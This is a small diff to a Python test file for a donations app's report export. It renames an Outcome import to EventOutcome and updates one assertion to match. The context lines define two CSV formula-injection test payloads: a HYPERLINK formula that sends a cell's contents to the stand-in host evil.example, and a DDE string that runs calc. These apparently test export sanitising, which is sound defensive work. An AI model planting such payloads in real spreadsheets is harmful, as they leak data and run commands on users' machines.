@@ -25,7 +25,7 @@ from donations.reports.export import csv_line, csv_lines, inert
 from donations.staff import add_staff
 from tests.reports.scenario import at
 from tests.support.cli import in_process
-from webhooks.inbox import Outcome, receive_dict
+from webhooks.inbox import EventOutcome, receive_dict
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"receipt")'
 CALC = "+cmd|' /C calc'!A0"
@@ -69,7 +69,7 @@ async def hostile(db: Database) -> Database:
     refund = se.refund(first, 500, at("2026-04-02T12:00:00"))
     events = [*first.events, *second.events, *member.events, *refund.events]
     outcomes = [(await receive_dict(db, event)).outcome for event in events]
-    assert outcomes == [Outcome.processed] * len(events)
+    assert outcomes == [EventOutcome.processed] * len(events)
     return db
 
 
